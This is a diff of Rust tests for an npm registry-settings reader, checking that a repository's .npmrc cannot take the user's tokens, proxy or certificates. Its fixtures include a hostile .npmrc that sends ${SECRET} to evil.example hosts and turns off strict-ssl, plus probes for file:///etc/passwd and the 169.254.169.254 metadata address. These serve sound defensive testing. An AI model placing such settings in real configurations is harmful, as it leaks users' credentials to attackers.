@@ -17,12 +17,18 @@ const NOTHING: Given = Given {
 fn settings(given: &Given) -> RegistrySettings {
     let pairs = given.environment.iter();
     let environment = pairs.map(|(name, value)| ((*name).to_owned(), (*value).to_owned()));
-    RegistrySettings::new(
-        given.flag,
-        environment.collect(),
-        Some(given.project),
-        Some(given.user),
-    )
+    let mut environment: BTreeMap<String, String> = environment.collect();
+    environment.insert("HOME".to_owned(), "/home/joe".to_owned());
+    let read = |file: &Path| (file == Path::new("/home/joe/.npmrc")).then(|| given.user.to_owned());
+    RegistrySettings::new(given.flag, environment, Some(given.project), &read)
+}
+
+/// What is asked for a package.
+fn asked(settings: &RegistrySettings, package: &str) -> String {
+    match settings.registry_of(package) {
+        (url, None) => url,
+        (url, Some(refusal)) => format!("{refusal:?} {url}"),
+    }
 }
 
 #[test]
@@ -56,7 +62,7 @@ fn registry_is_the_one_that_npm_would_ask() {
         (
             Given {
                 environment: &[("npm_config_registry", ""), ("HOST", "variable.example")],
-                project: "registry=https://${HOST}/${PATH?}",
+                user: "registry=https://${HOST}/${PATH?}",
                 ..NOTHING
             },
             "https://variable.example/",
@@ -73,8 +79,8 @@ fn registry_is_the_one_that_npm_would_ask() {
         ),
     ] {
         let settings = settings(&given);
-        assert_eq!(settings.registry_of("widget"), widget);
-        assert_eq!(settings.registry_of("@acme/widget"), scoped);
+        assert_eq!(asked(&settings, "widget"), widget);
+        assert_eq!(asked(&settings, "@acme/widget"), scoped);
     }
 }
 
@@ -82,7 +88,7 @@ fn registry_is_the_one_that_npm_would_ask() {
 fn credentials_go_to_their_host_and_path_only() {
     let settings = settings(&Given {
         environment: &[("TOKEN", "secret")],
-        project: "//a.example/:_authToken=${TOKEN}\n//b.example/npm/:_auth=dXNlcg==\n//c.example/:_authToken=${UNSET}\n\
+        user: "//a.example/:_authToken=${TOKEN}\n//b.example/npm/:_auth=dXNlcg==\n//c.example/:_authToken=${UNSET}\n\
                   //d.example:8080/npm:_authToken=plain\n\
                   //e.example/:username=joe\n//e.example/:_password=cGFzcw==\n//f.example/:_password=cGFzcw==\n",
         ..NOTHING
@@ -122,7 +128,7 @@ fn proxy_is_the_one_of_the_settings_and_then_of_the_environment() {
     };
     let of_settings = Given {
         environment,
-        project: "https-proxy=http://set.example:3\nnoproxy=none.example\n",
+        user: "https-proxy=http://set.example:3\nnoproxy=none.example\n",
         ..NOTHING
     };
     let all_excepted = Given {
@@ -131,7 +137,7 @@ fn proxy_is_the_one_of_the_settings_and_then_of_the_environment() {
     };
     let switched_off = Given {
         environment: &[],
-        project: "proxy=null\n",
+        user: "proxy=null\n",
         ..NOTHING
     };
     for (given, url, expected) in [
@@ -207,33 +213,192 @@ fn passwords_in_urls_are_not_shown() {
     assert_eq!(host_of("http://[::1]:4873/x"), "::1");
 }
 
+/// What a hostile repository could write to get at a secret of the user.
+const HOSTILE: &str = "registry=https://user.example\n\
+    @plain:registry=http://user.example\n\
+    @port:registry=http://USER.example:8080/npm/\n\
+    @variable:registry=https://evil.example/${SECRET}\n\
+    @host:registry=https://${SECRET}.evil.example/\n\
+    //evil.example/:_authToken=${SECRET}\n\
+    //user.example/:_authToken=theirs\n\
+    //${SECRET}.evil.example/:_auth=x\n\
+    proxy=http://evil.example\n\
+    https-proxy=http://evil.example\n\
+    noproxy=user.example\n\
+    cafile=evil.pem\n\
+    ca[]=evil\n\
+    strict-ssl=false\n\
+    userconfig=evil.npmrc\n\
+    always-auth=true\n";
+
 #[test]
-fn a_project_that_is_only_opened_names_registries_and_nothing_else() {
-    let environment = BTreeMap::from([("SECRET".to_owned(), "secret".to_owned())]);
-    let user = "//user.example/:_authToken=mine\n//plain.example/:_authToken=mine\n";
-    let project = "registry=https://user.example\n\
-                   @acme:registry=http://plain.example\n\
-                   @evil:registry=https://evil.example/${SECRET}\n\
-                   //evil.example/:_authToken=${SECRET}\n\
-                   //plain.example/:_authToken=theirs\n\
-                   proxy=http://evil.example\n\
-                   noproxy=user.example\n\
-                   cafile=evil.pem\n";
-    let settings = RegistrySettings::for_opened(environment, Some(project), Some(user));
-    assert_eq!(settings.registry_of("widget"), "https://user.example/");
-    assert_eq!(
-        settings.registry_of("@evil/widget"),
-        "https://evil.example/${SECRET}/"
-    );
+fn a_repository_chooses_registries_and_nothing_else() {
+    let given = Given {
+        environment: &[("SECRET", "secret")],
+        user: "//user.example/:_authToken=mine\n",
+        project: HOSTILE,
+        ..NOTHING
+    };
+    let settings = settings(&given);
+    for (package, expected) in [
+        ("widget", "https://user.example/"),
+        ("@plain/w", "PlainHttp http://user.example/"),
+        ("@port/w", "PlainHttp http://USER.example:8080/npm/"),
+        ("@variable/w", "Variable https://evil.example/${SECRET}/"),
+        ("@host/w", "Variable https://${SECRET}.evil.example/"),
+    ] {
+        assert_eq!(asked(&settings, package), expected);
+    }
     for (url, expected) in [
         ("https://user.example/widget", Some("Bearer mine")),
-        // The token is the user's, and the project has chosen that anyone can read it.
-        ("http://plain.example/@acme%2fwidget", None),
-        ("https://plain.example/@acme%2fwidget", Some("Bearer mine")),
         ("https://evil.example/widget", None),
     ] {
         assert_eq!(settings.authorization(url).as_deref(), expected, "{url}");
     }
-    assert_eq!(settings.proxy("https://evil.example/widget"), None);
+    assert_eq!(settings.proxy("https://user.example/widget"), None);
     assert_eq!(settings.certificates(), None);
+    let ignored: Vec<&str> = settings
+        .ignored()
+        .iter()
+        .map(|ignored| ignored.key.as_str())
+        .collect();
+    assert_eq!(
+        ignored,
+        [
+            "//evil.example/:_authToken",
+            "//user.example/:_authToken",
+            "//${SECRET}.evil.example/:_auth",
+            "proxy",
+            "https-proxy",
+            "noproxy",
+            "cafile",
+            "ca",
+            "strict-ssl",
+            "userconfig",
+            "@host:registry",
+            "@plain:registry",
+            "@port:registry",
+            "@variable:registry",
+        ]
+    );
+}
+
+#[test]
+fn what_the_user_names_the_user_gets() {
+    // A token for a registry on the same machine, as of `npm login --registry http://localhost:4873`.
+    let user = "registry=http://localhost:4873\n//localhost:4873/:_authToken=mine\n";
+    let project = "registry=http://localhost:4873/\n@acme:registry=http://localhost:9999/\n";
+    let settings = settings(&Given {
+        user,
+        project,
+        ..NOTHING
+    });
+    assert_eq!(asked(&settings, "widget"), "http://localhost:4873/");
+    assert_eq!(
+        asked(&settings, "@acme/widget"),
+        "PlainHttp http://localhost:9999/"
+    );
+    assert_eq!(
+        settings.authorization("http://localhost:4873/widget").as_deref(),
+        Some("Bearer mine")
+    );
+}
+
+#[test]
+fn a_home_folder_that_is_a_repository_is_the_user_s() {
+    let text = "proxy=http://set.example:3\n//a.example/:_authToken=mine\n";
+    let settings = settings(&Given {
+        user: text,
+        project: text,
+        ..NOTHING
+    });
+    assert_eq!(settings.ignored(), []);
+    assert_eq!(
+        settings.proxy("https://x.example/").as_deref(),
+        Some("http://set.example:3")
+    );
+}
+
+#[test]
+fn what_npm_passes_on_from_the_repository_is_not_the_user_s() {
+    let project = "https-proxy=http://evil.example\ncafile=evil.pem\nregistry=https://evil.example/${SECRET}/\n\
+                   userconfig=evil.npmrc\n";
+    let passed_on: &[_] = &[
+        ("npm_execpath", "/usr/lib/node_modules/npm/bin/npm-cli.js"),
+        ("npm_config_https_proxy", "http://evil.example"),
+        ("npm_config_cafile", "/repository/evil.pem"),
+        ("npm_config_registry", "https://evil.example/secret/"),
+        ("npm_config_userconfig", "/repository/evil.npmrc"),
+        ("npm_config_noproxy", "mine.example"),
+        ("SECRET", "secret"),
+    ];
+    let of_npm = settings(&Given {
+        environment: passed_on,
+        project,
+        user: "//a.example/:_authToken=mine",
+        ..NOTHING
+    });
+    assert_eq!(of_npm.proxy("https://x.example/"), None);
+    assert_eq!(of_npm.certificates(), None);
+    assert_eq!(
+        asked(&of_npm, "widget"),
+        "Variable https://evil.example/${SECRET}/"
+    );
+    assert_eq!(
+        of_npm.authorization("https://a.example/w").as_deref(),
+        Some("Bearer mine")
+    );
+    // The same variables without npm are the user's own.
+    let environment = passed_on.get(1..).unwrap_or_default();
+    let of_user = settings(&Given {
+        environment,
+        project,
+        ..NOTHING
+    });
+    assert_eq!(
+        of_user.proxy("https://x.example/").as_deref(),
+        Some("http://evil.example")
+    );
+}
+
+#[test]
+fn a_registry_of_a_repository_is_a_plain_url() {
+    for (url, expected) in [
+        ("https://npm.pkg.github.com", None),
+        ("https://a.example:8443/npm/@acme/", None),
+        ("http://localhost:4873/", None),
+        ("http://127.0.0.1:4873", None),
+        ("https://[2001:db8::1]:8443/", None),
+        ("https://10.0.0.1/", None),
+        ("file:///etc/passwd", Some(Refusal::NoUrl)),
+        ("//a.example/", Some(Refusal::NoUrl)),
+        ("a.example", Some(Refusal::NoUrl)),
+        ("HTTPS://a.example/", Some(Refusal::NoUrl)),
+        ("https://", Some(Refusal::NoUrl)),
+        ("https:///a", Some(Refusal::NoUrl)),
+        ("https://.example/", Some(Refusal::NoUrl)),
+        ("https://a b/", Some(Refusal::NoUrl)),
+        ("https://a.example:0/", Some(Refusal::NoUrl)),
+        ("https://a.example:99999/", Some(Refusal::NoUrl)),
+        ("https://a.example:+1/", Some(Refusal::NoUrl)),
+        ("https://a.example\\b/", Some(Refusal::NoUrl)),
+        ("https://a.example/?x=", Some(Refusal::NoUrl)),
+        ("https://a.example/npm%2f", Some(Refusal::NoUrl)),
+        ("https://a.example/npm/../", Some(Refusal::NoUrl)),
+        ("https://a.example/%2e%2e/", Some(Refusal::NoUrl)),
+        ("https://a.example/\u{1b}[31m", Some(Refusal::NoUrl)),
+        ("https://ä.example/", Some(Refusal::NoUrl)),
+        ("https://[::1", Some(Refusal::NoUrl)),
+        ("https://joe:secret@a.example/", Some(Refusal::Credential)),
+        ("https://a.example@evil.example/", Some(Refusal::Credential)),
+        ("https://${TOKEN}@a.example/", Some(Refusal::Variable)),
+        ("http://169.254.169.254/latest/", Some(Refusal::Address)),
+        ("http://0.0.0.0/", Some(Refusal::Address)),
+        ("http://[fe80::1]/", Some(Refusal::Address)),
+        ("http://[::ffff:169.254.169.254]/", Some(Refusal::Address)),
+    ] {
+        let project = format!("registry={url}\n");
+        let settings = RegistrySettings::new(None, BTreeMap::new(), Some(&project), &|_| None);
+        assert_eq!(settings.registry_of("widget").1, expected, "{url}");
+    }
 }
